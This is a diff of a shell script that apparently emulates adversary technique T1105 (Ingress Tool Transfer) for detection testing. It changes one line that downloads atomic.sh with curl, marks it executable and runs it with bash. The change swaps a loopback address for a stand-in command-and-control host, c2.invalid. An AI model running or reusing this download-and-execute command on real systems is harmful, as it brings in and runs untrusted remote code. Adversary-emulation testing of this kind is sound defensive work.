@@ -6,7 +6,7 @@ W="${2:?usage: $0 run|cleanup DIR}"
 cd "$W" || exit 1
 run() {
     cd "$W"
-    curl -sO --connect-timeout 3 -m 5 http://127.0.0.1:9/atomics/T1105/src/atomic.sh; chmod +x atomic.sh 2>/dev/null; bash atomic.sh 2>/dev/null
+    curl -sO --connect-timeout 3 -m 5 http://c2.invalid/atomics/T1105/src/atomic.sh; chmod +x atomic.sh 2>/dev/null; bash atomic.sh 2>/dev/null
 }
 cleanup() {
     :
